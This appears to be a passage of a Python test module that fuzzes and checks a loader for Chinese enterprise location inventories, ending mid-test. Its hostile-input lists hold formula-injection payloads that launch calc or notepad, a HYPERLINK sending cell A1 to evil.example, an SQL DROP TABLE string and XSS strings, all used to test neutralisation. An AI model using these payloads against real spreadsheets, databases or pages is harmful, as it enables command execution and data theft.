"""Bad input never crashes the loader and never loses a row; hostile text stays harmless; the same
inputs give the same outputs.

- the corpus of nasty files in ``tests/data/corpus`` (see ``tests/data/corpus.yaml``), each row
  carrying its expected outcome;
- hypothesis fuzzing: random bytes in every format, mutated corpus files, generated tables with
  known good and bad rows in every encoding and delimiter, random XLSX cells and GeoJSON
  geometries, and the pandas fast path against the csv module;
- geometry and coordinate-system problems in vector layers;
- hostile names through the whole pipeline into lists.xlsx, and two runs compared.

The fuzz tests use the hypothesis profile named by ``HYPOTHESIS_PROFILE`` (``ci`` by default,
a minute at most; ``nightly`` for ``make fuzz``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import string
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument
from pyproj import Transformer

from spatial import coords
from spatial.errors import InputFileError, SpatialError
from spatial.inventory import REASONS, load_enterprises, projected_hint
from spatial.tables import _fast_body, _records

DATA = Path(__file__).parent / "data"
CORPUS = DATA / "corpus"
MANIFEST = yaml.safe_load((DATA / "corpus.yaml").read_text(encoding="utf-8"))

# ---------------------------------------------------------------------------------------------
# Hypothesis profiles: 'ci' (the default; it replaces Hypothesis' built-in one of that name)
# keeps the fuzz tests of this module within a minute in total and is derandomised, so CI is
# repeatable; 'nightly' (HYPOTHESIS_PROFILE=nightly, make fuzz) runs 25 times as many random
# examples. Each test scales the profile's max_examples by its own cost.

_HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture]
settings.register_profile(
    "ci", max_examples=40, derandomize=True, deadline=None, suppress_health_check=_HEALTH
)
settings.register_profile(
    "nightly", max_examples=1000, deadline=None, suppress_health_check=_HEALTH
)


def fuzz(scale: float = 1.0) -> settings:
    """Settings of the active profile, with ``scale`` times its examples for this test."""
    name = os.environ.get("HYPOTHESIS_PROFILE", "ci")
    try:
        base = settings.get_profile(name)
    except InvalidArgument:
        base = settings.get_profile("ci")
    return settings(
        base,
        max_examples=max(1, int(base.max_examples * scale)),
        deadline=None,
        suppress_health_check=_HEALTH,
    )


# ---------------------------------------------------------------------------------------------
# What must hold for every loaded inventory


def check_invariants(inv) -> None:
    """Every row accounted once, with reasons; accepted points usable."""
    accepted, rejected = inv.enterprises, inv.rejected
    rows = list(accepted["row"]) + list(rejected["row"])
    assert len(rows) == len(set(rows)), "a row number appears twice"
    assert all(r >= 1 for r in rows)
    assert inv.n_input == len(accepted) + len(rejected)
    assert inv.blank_rows >= 0
    if len(rejected):
        assert rejected["reason"].astype(str).str.len().gt(0).all()
        codes = {c for value in rejected["reason_code"] for c in str(value).split(";")}
        assert codes <= set(REASONS), codes - set(REASONS)
        assert set(inv.problems["row"]) == set(rejected["row"])
    assert np.isfinite(accepted["lon"].astype(float)).all()
    assert np.isfinite(accepted["lat"].astype(float)).all()
    if len(accepted):
        assert coords.in_china(accepted["lon"].to_numpy(), accepted["lat"].to_numpy()).all()
        assert accepted["id"].is_unique and accepted["id"].astype(str).str.len().gt(0).all()
        assert accepted.crs.to_epsg() == 4326


def load_or_file_error(path: Path, crs: str | None = None):
    """The inventory, or None when the loader refused the whole file with a SpatialError."""
    try:
        inv = load_enterprises(path, crs=crs)
    except SpatialError as exc:
        assert str(exc).strip()
        return None
    check_invariants(inv)
    return inv


# ---------------------------------------------------------------------------------------------
# The corpus


def test_every_corpus_file_is_in_the_manifest():
    files = {p.name for p in CORPUS.iterdir()}
    assert files == set(MANIFEST), files ^ set(MANIFEST)


@pytest.mark.parametrize("name", sorted(MANIFEST))
def test_corpus_file(name):
    expected = MANIFEST[name]
    path = CORPUS / name
    if "error" in expected:
        with pytest.raises(InputFileError) as info:
            load_enterprises(path)
        assert re.search(expected["error"], str(info.value)), str(info.value)
        assert str(path) in str(info.value)
        return
    inv = load_enterprises(path)
    check_invariants(inv)
    assert len(inv.enterprises) == expected["accepted"]
    assert len(inv.rejected) == expected["rejected"]
    assert inv.blank_rows == expected.get("blank", 0)
    if "encoding" in expected:
        assert inv.encoding == expected["encoding"]
    if "warning" in expected:
        assert any(re.search(expected["warning"], w) for w in inv.warnings), inv.warnings
    else:
        assert inv.warnings == []
    # each row's own expectation
    if "expect" in inv.enterprises:
        assert set(inv.enterprises["expect"]) <= {"ok"}
    for _, rejected in inv.rejected.iterrows():
        assert set(rejected["reason_code"].split(";")) == set(rejected["expect"].split(";")), (
            rejected["row"],
            rejected["reason"],
        )


def test_mixed_encoding_rows_read_in_their_own_encoding():
    inv = load_enterprises(CORPUS / "mixed_encoding.csv")
    e = inv.enterprises.set_index("id")
    assert e.loc["M3", "name"] == "太谷焦化厂" and e.loc["M4", "county"] == "太谷区"
    assert e.loc["G1", "name"] == "甲铸造厂"


def test_two_row_and_merged_headers():
    inv = load_enterprises(CORPUS / "two_row_header.csv")
    assert inv.header_map["经度"] == "lon" and inv.header_map["纬度"] == "lat"
    assert inv.enterprises["row"].tolist() == [4, 5]
    inv = load_enterprises(CORPUS / "merged_header.xlsx")
    e = inv.enterprises.set_index("id")
    assert e.loc[["X1", "X2", "X3"], "county"].tolist() == ["榆次区"] * 3  # merged E6:E8
    assert e.loc["X1", "compliant"] == "yes" and e.loc["X2", "compliant"] == "no"
    assert e.loc["X2", "lon"] == pytest.approx(112.75) and e.loc["X2", "lat"] == 37.7
    assert e.loc["1005", "row"] == 10
    assert inv.rejected["row"].tolist() == [9, 13]


def test_reserved_and_repeated_headers_are_renamed():
    inv = load_enterprises(CORPUS / "reserved_headers.csv")
    columns = set(inv.enterprises.columns)
    for name in ("input_row", "input_reason", "input_geometry", "input_FID", "_x__"):
        assert name in columns
    assert "column_4" in columns and "_overlong__" in columns
    assert inv.enterprises["row"].tolist() == [2]
    inv = load_enterprises(CORPUS / "duplicate_unknown_headers.csv")
    row = inv.enterprises.iloc[0]
    assert (row["备注"], row["备注_2"], row["Note"], row["note_2"]) == ("a", "b", "c", "d")


def test_numbers_in_every_spelling():
    e = load_enterprises(CORPUS / "numbers.csv").enterprises
    assert np.allclose(e["lon"], 112.75, atol=1e-4) and np.allclose(e["lat"], 37.69, atol=1e-4)


def test_hostile_text_is_kept_verbatim_in_the_inventory():
    inv = load_enterprises(CORPUS / "hostile_text.csv")
    names = inv.enterprises.set_index("id")["name"]
    assert names["H1"].startswith("=HYPERLINK(")
    assert names["H5"] == "<script>alert('x')</script>甲厂"
    assert names["H7"] == '"quoted", with comma\nand newline'


def test_problem_details_name_column_and_value():
    inv = load_enterprises(CORPUS / "numbers.csv")
    details = inv.problems.set_index("row")
    assert details.loc[10, "column"] == "lon" and details.loc[10, "value"] == "inf"
    assert details.loc[17, "value"] == "一一二点七五"


# ---------------------------------------------------------------------------------------------
# Geometry and coordinate systems


def test_geometry_problems_in_a_geopackage(tmp_path):
    bowtie = shapely.Polygon([(112.7, 37.6), (112.8, 37.7), (112.8, 37.6), (112.7, 37.7)])
    geometries = [
        shapely.Point(112.75, 37.69),
        shapely.Point(112.75, 37.69, 900.0),
        shapely.MultiPoint([(112.75, 37.69)]),
        shapely.MultiPoint([(112.7, 37.6), (112.8, 37.7)]),
        shapely.Point(),
        bowtie,
        None,
    ]
    gdf = gpd.GeoDataFrame(
        {"id": [f"G{i}" for i in range(len(geometries))], "industry": "steel"},
        geometry=geometries,
        crs="EPSG:4490",
    )
    path = tmp_path / "plants.gpkg"
    gdf.to_file(path, engine="pyogrio")
    inv = load_enterprises(path)
    check_invariants(inv)
    assert inv.enterprises["id"].tolist() == ["G0", "G1", "G2"]
    assert not inv.enterprises.geometry.has_z.any()
    assert inv.enterprises["lon"].tolist() == pytest.approx([112.75] * 3)
    reasons = inv.rejected.set_index("id")
    assert reasons.loc["G3", "reason_code"] == "multi_part"
    assert "MultiPoint of 2 points" in reasons.loc["G3", "reason"]
    assert reasons.loc["G4", "reason_code"] == "empty_geometry"
    assert reasons.loc["G5", "reason_code"] == "not_a_point"
    assert "Self-intersection" in reasons.loc["G5", "reason"]
    assert reasons.loc["G6", "reason_code"] == "missing_coordinates"
    assert any("3D" in w for w in inv.warnings)


@pytest.mark.parametrize(
    ("epsg", "lon", "lat"),
    [
        (4526, 114.3, 37.7),  # 3-degree zone 38 (Shanxi)
        (4497, 111.3, 37.7),  # 6-degree zone 19
        (4547, 114.3, 37.7),  # 3-degree CM 114E, no zone prefix
        (4491, 75.3, 37.7),  # 6-degree zone 13 (Tashkurgan)
        (4533, 134.0, 47.7),  # 3-degree zone 45 (Fuyuan)
    ],
)
def test_projected_coordinates_read_as_degrees_name_the_crs_to_try(tmp_path, epsg, lon, lat):
    x, y = Transformer.from_crs(4326, epsg, always_xy=True).transform(lon, lat)
    path = tmp_path / "plants.csv"
    path.write_text(f"id,lon,lat\nA1,{x:.1f},{y:.1f}\n", encoding="utf-8")
    inv = load_enterprises(path)
    assert inv.rejected["reason_code"].tolist() == ["looks_projected"]
    reason = inv.rejected["reason"].iloc[0]
    if epsg == 4547:  # no zone prefix: the hint names an example and the range
        assert "EPSG:4547" in reason and "EPSG:4534-4554" in reason
        return
    hint = re.search(r"--crs (EPSG:\d+)", reason).group(1)
    assert hint == f"EPSG:{epsg}"
    again = load_enterprises(path, crs=hint)  # following the hint works
    assert len(again.enterprises) == 1
    assert again.enterprises["lon"].iloc[0] == pytest.approx(lon, abs=1e-6)


def test_degrees_with_a_projected_crs_are_rejected_with_a_hint(csv_file):
    inv = load_enterprises(csv_file(["id,lon,lat", "A1,112.75,37.69"]), crs="EPSG:4547")
    assert inv.rejected["reason_code"].tolist() == ["looks_geographic"]
    assert "--crs wgs84" in inv.rejected["reason"].iloc[0]


def test_projected_hint_zones():
    assert projected_hint(20_500_000, 4_000_000).startswith("EPSG:4498 ")
    assert projected_hint(38_400_000, 4_000_000).startswith("EPSG:4526 ")
    assert "central meridian" in projected_hint(450_000, 4_000_000)


# ---------------------------------------------------------------------------------------------
# Fuzzing: any bytes, mutated corpus files

SUFFIXES = [".csv", ".txt", ".xlsx", ".gpkg", ".geojson"]


@fuzz(2.0)
@given(data=st.binary(max_size=3000), suffix=st.sampled_from(SUFFIXES))
def test_random_bytes_are_a_file_error_or_accounted_rows(tmp_path_factory, data, suffix):
    path = tmp_path_factory.mktemp("bytes") / f"input{suffix}"
    path.write_bytes(data)
    load_or_file_error(path)


HEADER_LINE = "编号,企业名称,行业,经度,纬度,达标排放\r\n".encode()


@fuzz(2.0)
@given(
    lines=st.lists(
        st.one_of(
            st.binary(max_size=60),
            st.sampled_from([b"A1,\xe7\x94\xb2,foundry,112.75,37.69,yes", b",,,", b'"a,b', b""]),
        ),
        max_size=12,
    ),
    header_first=st.booleans(),
)
def test_a_header_then_random_byte_lines(tmp_path_factory, lines, header_first):
    path = tmp_path_factory.mktemp("lines") / "input.csv"
    body = b"\r\n".join(lines)
    path.write_bytes(HEADER_LINE + body if header_first else body + b"\r\n" + HEADER_LINE)
    load_or_file_error(path)


CORPUS_TABLES = sorted(
    name for name, spec in MANIFEST.items() if "error" not in spec or "header" in spec["error"]
)


@st.composite
def mutations(draw, size: int):
    """A list of (operation, position, bytes) edits for a file of ``size`` bytes."""
    ops = []
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["truncate", "delete", "insert", "flip", "repeat"]))
        ops.append(
            (op, draw(st.integers(0, max(size, 1))), draw(st.binary(min_size=1, max_size=8)))
        )
    return ops


def mutate(data: bytes, ops) -> bytes:
    for op, at, blob in ops:
        at = min(at, len(data))
        if op == "truncate":
            data = data[:at]
        elif op == "delete":
            data = data[:at] + data[at + len(blob) :]
        elif op == "insert":
            data = data[:at] + blob + data[at:]
        elif op == "flip" and data:
            i = min(at, len(data) - 1)
            data = data[:i] + bytes([data[i] ^ blob[0]]) + data[i + 1 :]
        elif op == "repeat":
            data = data[:at] + data[at : at + 40] + data[at:]
    return data


@fuzz(3.0)
@given(name=st.sampled_from(CORPUS_TABLES), data=st.data())
def test_mutated_corpus_files(tmp_path_factory, name, data):
    raw = (CORPUS / name).read_bytes()
    ops = data.draw(mutations(len(raw)))
    path = tmp_path_factory.mktemp("mutated") / name
    path.write_bytes(mutate(raw, ops))
    load_or_file_error(path)


# ---------------------------------------------------------------------------------------------
# Fuzzing: generated tables whose rows are known to be good or bad in one way

ALIASES = {
    "id": ["id", "编号", "统一社会信用代码", " 企业编号 "],
    "name": ["name", "企业名称", "单位名称"],
    "industry": ["industry", "行业", "行业类别"],
    "compliant": ["compliant", "达标排放", "是否达标"],
    "lon": ["lon", "经度", "经度（°）", " Longitude ", "x"],
    "lat": ["lat", "纬度", "纬度(°)", "latitude", "y"],
}
EXTRA_HEADERS = ["备注", "Note", "note", "row", "geometry", "__x__", "reason", "序号"]
INDUSTRY = ["铸造", "foundry", " Coking ", "焦化", "水泥", "", "其他", "ＦＯＵＮＤＲＹ"]
YESNO = ["是", "否", "yes", "Y", "√", "", "NO", "有"]
KINDS = [
    "ok",
    "ok",
    "ok",
    "blank",
    "missing_coordinates",
    "not_a_number",
    "zero_coordinates",
    "lon_lat_swapped",
    "outside_china",
    "looks_projected",
    "empty_id",
    "duplicate_id",
    "unknown_code",
    "extra_cells",
    "control_character",
]
HOSTILE = [
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "<script>alert(1)</script>",
    '"; DROP TABLE enterprises; --',
    "名称,含逗号",
    '引号"内"',
    "多\n行",
    "１２３",
]
text_cells = st.one_of(
    st.text(
        # no control characters (a kind of its own below) but the tab and line ends a cell holds
        alphabet=st.characters(
            exclude_categories=("Cs", "Cc"),
            include_characters="\t\n\r",
            exclude_characters="\ufffd\ufffe\uffff",
        ),
        max_size=16,
    ),
    st.sampled_from(HOSTILE),
)
# text as inventories hold it: in a file that mixes encodings, line-by-line decoding relies on
# UTF-8 lines reading like Chinese (arbitrary Unicode can be valid GB18030 as well)
realistic_cells = st.one_of(
    st.text(
        alphabet=st.sampled_from(list("甲乙丙铸造厂焦化有限公司榆次区镇村，。、（）()-· Ab1")),
        max_size=12,
    ),
    st.sampled_from(HOSTILE),
)
FULL_WIDTH = str.maketrans("0123456789.-", "０１２３４５６７８９．－")


def spell(value: float, style: str, axis: str) -> str:
    if style == "full":
        return f"{value:.6f}".translate(FULL_WIDTH)
    if style == "comma_point":
        return f"{value:.5f}".replace(".", "。")
    if style == "dms":
        d = int(value)
        m = int((value - d) * 60)
        s = (value - d - m / 60) * 3600
        return f"{d}°{m}′{s:.3f}″{'E' if axis == 'lon' else 'N'}"
    if style == "chinese_dms":
        d = int(value)
        m = int((value - d) * 60)
        s = (value - d - m / 60) * 3600
        return f"{d}度{m}分{s:.3f}秒"
    if style == "padded":
        return f"  {value:.6f}\t"
    return f"{value:.6f}"


@st.composite
def tables(draw):
    """(rows of cells, header index, per-row kinds, file options)."""
    options = {
        "encoding": draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "mixed"])),
        "delimiter": draw(st.sampled_from([",", ";", "\t"])),
        "end": draw(st.sampled_from(["\r\n", "\n"])),
    }
    texts = realistic_cells if options["encoding"] == "mixed" else text_cells
    extras = draw(st.lists(st.sampled_from(EXTRA_HEADERS), max_size=3))
    header_keys = list(ALIASES) + [f"extra:{e}" for e in extras]
    order = draw(st.permutations(header_keys))
    header = [
        draw(st.sampled_from(ALIASES[k])) if k in ALIASES else k.split(":", 1)[1] for k in order
    ]
    n = draw(st.integers(0, 14))
    kinds, rows, ids = [], [], []
    for i in range(n):
        kind = draw(st.sampled_from(KINDS))
        earlier = [ids[j] for j, k in enumerate(kinds) if k not in ("blank", "empty_id")]
        if kind == "duplicate_id" and not earlier:
            kind = "ok"
        lon = draw(st.floats(110.6, 113.9))
        lat = draw(st.floats(35.6, 39.9))
        style = draw(
            st.sampled_from(["plain", "full", "comma_point", "dms", "chinese_dms", "padded"])
        )
        cells = {
            "id": f"R{i}" if draw(st.booleans()) else f" R{i} ",
            "name": draw(texts),
            "industry": draw(st.sampled_from(INDUSTRY)),
            "compliant": draw(st.sampled_from(YESNO)),
            "lon": spell(lon, style, "lon"),
            "lat": spell(lat, style, "lat"),
        }
        if kind == "missing_coordinates":
            cells[draw(st.sampled_from(["lon", "lat"]))] = draw(
                st.sampled_from(["", "NaN", "null", "-", "  "])
            )
        elif kind == "not_a_number":
            cells["lat"] = draw(st.sampled_from(["abc", "inf", "1,5", "３７．x", "37.5.1"]))
        elif kind == "zero_coordinates":
            cells["lon"], cells["lat"] = "0", "0.0"
        elif kind == "lon_lat_swapped":
            cells["lon"], cells["lat"] = cells["lat"], cells["lon"]
        elif kind == "outside_china":
            cells["lon"], cells["lat"] = "106.9", "47.9"
        elif kind == "looks_projected":
            cells["lon"], cells["lat"] = "38523456.1", "4172345.6"
        elif kind == "empty_id":
            cells["id"] = draw(st.sampled_from(["", "  "]))
        elif kind == "duplicate_id":
            cells["id"] = draw(st.sampled_from(earlier))
        elif kind == "unknown_code":
            cells["industry"] = "spaceship"
        elif kind == "control_character":
            where = draw(st.sampled_from(["name", "lat"]))
            cell = cells[where]
            at = draw(st.integers(0, len(cell)))
            control = draw(st.sampled_from(["\x00", "\x01", "\x08", "\x1b", "\x7f", "\x85"]))
            cells[where] = cell[:at] + control + cell[at:]
        row = [cells.get(k, draw(texts)) for k in order]
        if kind == "extra_cells":
            row += [*[""] * draw(st.integers(0, 2)), "surplus"]
        if kind == "blank":
            row = [draw(st.sampled_from(["", " ", "\t"])) for _ in row][: draw(st.integers(0, 3))]
        kinds.append(kind)
        ids.append(cells["id"].strip())
        rows.append(row)
    title = draw(st.sampled_from([[], [["晋中市企业名单"]], [["名单", "", ""], []]]))
    options["gb_rows"] = draw(st.lists(st.booleans(), min_size=n, max_size=n))
    return [*title, header, *rows], len(title), kinds, ids, options


def write_table(path: Path, rows, options, header_at: int) -> bool:
    """Write the table; returns False when a mixed-encoding row is ambiguous (its GB18030
    bytes are valid UTF-8 too, so no reader can know which was meant)."""
    end = options["end"]
    if end == "\n":  # with \n line ends a bare \r in a cell would not be quoted
        rows = [[c.replace("\r", "") for c in row] for row in rows]
    lines = []
    for row in rows:
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=options["delimiter"], lineterminator=end).writerow(row)
        lines.append(buffer.getvalue())
    if options["encoding"] != "mixed":
        path.write_bytes("".join(lines).encode(options["encoding"]))
        return True
    chunks, clear = [], True
    for i, line in enumerate(lines):
        body = i - header_at - 1
        if body >= 0 and options["gb_rows"][body]:
            raw = line.encode("gb18030")
            if not raw.isascii():
                try:
                    raw.decode("utf-8")
                    clear = False
                except UnicodeDecodeError:
                    pass
            chunks.append(raw)
        else:
            chunks.append(line.encode("utf-8"))
    path.write_bytes(b"".join(chunks))
    return clear


@pytest.mark.slow
@fuzz(3.0)
@given(table=tables())
def test_generated_tables_account_for_every_row(tmp_path_factory, table):
    rows, header_at, kinds, ids, options = table
    path = tmp_path_factory.mktemp("table") / "plants.csv"
    clear = write_table(path, rows, options, header_at)
    inv = load_enterprises(path)
    check_invariants(inv)
    n = len(kinds)
    assert inv.n_input + inv.blank_rows == n
    assert inv.blank_rows == kinds.count("blank")
    if not clear:
        return
    first = header_at + 2
    expected_rows = {first + i: (kind, ids[i]) for i, kind in enumerate(kinds) if kind != "blank"}
    accepted = dict(zip(inv.enterprises["row"], inv.enterprises["id"], strict=True))
    assert set(accepted) == {r for r, (k, _) in expected_rows.items() if k == "ok"}
    for r, identifier in accepted.items():
        assert identifier == expected_rows[r][1]
    for _, rejected in inv.rejected.iterrows():
        kind = expected_rows[rejected["row"]][0]
        assert kind in rejected["reason_code"].split(";"), (kind, rejected["reason"])


@fuzz(3.0)
@given(
    text=st.text(alphabet=st.sampled_from(list(",;\"\r\n a\t中\\'#")), max_size=80),
)
def test_fast_parser_reads_what_the_csv_module_reads(text):
    records = [r for r, _ in _records(text, ",")]
    ncols = max([1, *(len(r) for r in records)])
    frame = _fast_body(text, ",", ncols)
    if frame is None:  # irregular: the loader uses the csv module
        return
    fast = frame.astype(str).values.tolist()
    slow = [(r + [""] * ncols)[:ncols] for r in records]
    assert fast == slow


# ---------------------------------------------------------------------------------------------
# Fuzzing: workbooks and vector layers

ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
xlsx_cells = st.one_of(
    st.none(),
    text_cells.map(lambda s: ILLEGAL_XLSX.sub("", s)),
    st.integers(-(10**6), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.sampled_from(["112.75", 112.75, 37.69, "37.69", "１１２。７５", "#N/A", "=1+1"]),
)


@fuzz(1.0)
@given(
    body=st.lists(st.lists(xlsx_cells, max_size=8), max_size=10),
    title=st.booleans(),
)
def test_random_workbooks(tmp_path_factory, body, title):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    if title:
        sheet.append(["名单"])
    sheet.append(["编号", "企业名称", "经度", "纬度", "行业", "达标排放", "备注", "备注"])
    for row in body:
        sheet.append(row)
    path = tmp_path_factory.mktemp("xlsx") / "plants.xlsx"
    workbook.save(path)
    inv = load_enterprises(path)
    check_invariants(inv)

    def blank(value: object) -> bool:
        # openpyxl writes text starting with '=' as a formula, which has no value until Excel
        # calculates it: read back as an empty cell
        return value is None or not str(value).strip() or str(value).startswith("=")

    nonblank = sum(1 for row in body if not all(blank(v) for v in row))
    assert inv.n_input == nonblank


coordinate = st.floats(-1e8, 1e8, allow_nan=False, allow_infinity=False)
near = st.tuples(st.floats(110.6, 113.9), st.floats(35.6, 39.9))
positions = st.one_of(near, st.tuples(coordinate, coordinate))


def geojson_geometries():
    point = positions.map(lambda p: {"type": "Point", "coordinates": list(p)})
    point_z = st.tuples(positions, coordinate).map(
        lambda t: {"type": "Point", "coordinates": [*t[0], t[1]]}
    )
    multi = st.lists(positions, min_size=0, max_size=3).map(
        lambda ps: {"type": "MultiPoint", "coordinates": [list(p) for p in ps]}
    )
    line = st.lists(positions, min_size=2, max_size=4).map(
        lambda ps: {"type": "LineString", "coordinates": [list(p) for p in ps]}
    )
    ring = st.lists(positions, min_size=3, max_size=5).map(
        lambda ps: {"type": "Polygon", "coordinates": [[*map(list, ps), list(ps[0])]]}
    )
    return st.one_of(st.none(), point, point_z, multi, line, ring)


@fuzz(1.0)
@given(
    geometries=st.lists(geojson_geometries(), max_size=8),
    lonlat=st.booleans(),
    crs=st.sampled_from([None, "EPSG:4490", "EPSG:4547", "EPSG:32649"]),
)
def test_random_geojson_geometries(tmp_path_factory, geometries, lonlat, crs):
    features = []
    for i, geometry in enumerate(geometries):
        properties = {"id": f"F{i}", "name": string.ascii_letters[i]}
        if lonlat:
            properties.update(lon="112.75", lat="37.69")
        features.append({"type": "Feature", "properties": properties, "geometry": geometry})
    collection = {"type": "FeatureCollection", "features": features}
    if crs:
        collection["crs"] = {"type": "name", "properties": {"name": crs}}
    path = tmp_path_factory.mktemp("geojson") / "plants.geojson"
    path.write_text(json.dumps(collection), encoding="utf-8")
    inv = load_or_file_error(path)
    assume(inv is not None)  # an empty collection has no layer to read
    assert inv.n_input == len(geometries)


# ---------------------------------------------------------------------------------------------
# Whole inventories read through both CSV parsers agree


CSV_CORPUS = sorted(
    name
    for name, spec in MANIFEST.items()
    if name.endswith((".csv", ".txt")) and "error" not in spec
)


@pytest.mark.parametrize("name", CSV_CORPUS)
def test_both_csv_parsers_give_the_same_inventory(monkeypatch, name):
    fast = load_enterprises(CORPUS / name)
    monkeypatch.setattr("spatial.tables._fast_body", lambda *args: None)
    slow = load_enterprises(CORPUS / name)
    pd.testing.assert_frame_equal(
        pd.DataFrame(fast.enterprises.drop(columns="geometry")),
        pd.DataFrame(slow.enterprises.drop(columns="geometry")),
    )
    pd.testing.assert_frame_equal(fast.rejected, slow.rejected)
    assert fast.blank_rows == slow.blank_rows and fast.warnings == slow.warnings


def test_overlong_rows_keep_the_fast_parser(monkeypatch, tmp_path):
    base = (CORPUS / "numbers.csv").read_text(encoding="utf-8")
    path = tmp_path / "ragged.csv"
    path.write_text(base + "extra_cells,Z1,甲,铸造,榆次区,,,112.75,37.69,surplus,more\r\n")
    calls = []
    original = _fast_body

    def spy(*args):
        frame = original(*args)
        calls.append(frame is not None)
        return frame

    monkeypatch.setattr("spatial.tables._fast_body", spy)
    inv = load_enterprises(path)
    assert calls == [True]
    assert inv.rejected["reason_code"].iloc[-1] == "extra_cells"
    assert len(inv.enterprises) == 5


# ---------------------------------------------------------------------------------------------
# Hostile text through the whole pipeline, and repeatable runs

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_ROWS = [
    ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "@SUM(A1)"),
    ("A2", "+cmd|' /C calc'!A0", "-2+3"),
    ("A3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C notepad'!A1"),
    ("A4", "-2+3", "\t=1+1"),
    ("A5", "<script>alert('x')</script>甲厂", "<b>镇</b>"),
    ("A6", '<img src=x onerror="alert(1)">', "普通镇"),
]


def test_hostile_text_is_neutralised_in_the_lists_and_kept_in_the_gpkg(tmp_path, builtup_file):
    from openpyxl import load_workbook

    from spatial.config import RunConfig
    from spatial.pipeline import run

    lines = ["id,name,industry,county,township,policy_class,compliant,lon,lat"]
    for id_, name, township in HOSTILE_ROWS:
        cells = [id_, name, "foundry", "榆次区", township, "restricted", "yes", "112.75", "37.69"]
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerow(cells)
        lines.append(buffer.getvalue().rstrip("\r\n"))
    path = tmp_path / "plants.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    out = tmp_path / "out"
    season = dt.date(2019, 12, 1)  # inside the Jinzhong season, so the foundries are listed
    run(RunConfig(enterprises=path, builtup=builtup_file, out=out, figures=False, as_of=season))

    workbook = load_workbook(out / "lists.xlsx")
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):  # text, and stays text when edited
                        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    for id_, name, township in HOSTILE_ROWS:
        for value in (name, township.strip()):  # contract text columns are trimmed
            assert value in texts, value  # listed as given
        assert any(id_ in text for text in texts), id_  # in 全部数据

    stored = gpd.read_file(out / "screening.gpkg", layer="enterprises").set_index("id")
    for id_, name, township in HOSTILE_ROWS:  # the data itself is kept as given
        assert stored.loc[id_, "name"] == name and stored.loc[id_, "township"] == township.strip()
    json.loads((out / "run.json").read_text(encoding="utf-8"))


@pytest.mark.slow
def test_the_same_inputs_give_the_same_decisions_in_the_same_order(demo_run, tmp_path):
    """The shared demo run (tests/conftest.py) and a second run of the same config."""
    import dataclasses

    from openpyxl import load_workbook

    from spatial.pipeline import run

    outs = [demo_run.out, tmp_path / "b"]
    run(dataclasses.replace(demo_run.config, out=outs[1]))
    for layer in ("enterprises", "decisions", "rejected"):
        a, b = (gpd.read_file(out / "screening.gpkg", layer=layer) for out in outs)
        pd.testing.assert_frame_equal(a, b)
        assert len(a) > 0
    a, b = (gpd.read_file(out / "screening.gpkg", layer="enterprises") for out in outs)
    assert a["id"].tolist() == b["id"].tolist()

    def cells(path: Path) -> list:
        workbook = load_workbook(path, read_only=True)
        values = [
            (sheet.title, [list(row) for row in sheet.iter_rows(values_only=True)])
            for sheet in workbook.worksheets
        ]
        workbook.close()
        return values

    assert cells(outs[0] / "lists.xlsx") == cells(outs[1] / "lists.xlsx")
    records = [json.loads((out / "run.json").read_text(encoding="utf-8")) for out in outs]
    assert records[0]["counts"] == records[1]["counts"]
    assert records[0]["policies"] == records[1]["policies"]


# ---------------------------------------------------------------------------------------------
# Issue 14: nothing lost, nothing silently changed, whole-run outputs

PLANTS = [
    "id,name,industry,county,policy_class,compliant,lon,lat",
    "A1,甲铸造厂,foundry,榆次区,restricted,yes,112.75,37.69",
    "A2,乙焦化厂,coking,太谷区,restricted,no,112.55,37.42",
    "A3,丙水泥厂,cement,祁县,permitted,yes,112.33,37.36",
]


@pytest.fixture
def plants(csv_file):
    return csv_file(PLANTS)


def config_for(plants_path, builtup_path, out, **options):
    from spatial.config import RunConfig

    return RunConfig(enterprises=plants_path, builtup=builtup_path, out=out, **options)


def describe(out: Path) -> dict[str, bytes]:
    """Every visible file of an output folder and its bytes."""
    return {
        p.relative_to(out).as_posix(): p.read_bytes()
        for p in sorted(out.rglob("*"))
        if p.is_file() and not p.relative_to(out).parts[0].startswith(".")
    }


def assert_record_describes_folder(out: Path) -> dict:
    """run.json lists exactly the visible files beside it, and its counts are the GeoPackage's."""
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert set(record["files"]) == set(describe(out)), set(record["files"]) ^ set(describe(out))
    enterprises = gpd.read_file(out / "screening.gpkg", layer="enterprises")
    assert len(enterprises) == record["counts"]["accepted"]
    return record


def test_a_failed_second_run_leaves_the_first_complete_set(
    monkeypatch, tmp_path, plants, builtup_file, csv_file
):
    import errno

    import spatial.pipeline
    from spatial.errors import OutputError
    from spatial.pipeline import run

    out = tmp_path / "out"
    run(config_for(plants, builtup_file, out, figures=False))
    first = describe(out)
    assert_record_describes_folder(out)

    more = csv_file([*PLANTS, "A4,丁厂,foundry,榆次区,restricted,yes,112.76,37.70"], name="b.csv")

    def full_disk(path, *args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(spatial.pipeline, "write_map", full_disk)  # after gpkg and lists
    with pytest.raises(OutputError) as info:
